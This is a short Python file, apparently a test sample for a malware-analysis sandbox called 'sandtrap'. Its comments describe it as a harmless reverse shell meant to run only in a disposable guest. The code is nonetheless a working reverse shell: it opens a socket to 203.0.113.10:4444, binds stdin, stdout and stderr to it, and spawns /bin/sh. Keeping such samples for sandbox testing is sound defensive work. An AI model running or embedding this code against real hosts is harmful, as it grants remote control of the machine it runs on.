#!/usr/bin/python3
# Reverse shell: socket to 203.0.113.10:4444, dup2 onto fds 0-2, then pty.spawn of /bin/sh.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import os, pty, socket, signal

signal.alarm(3)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.10", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
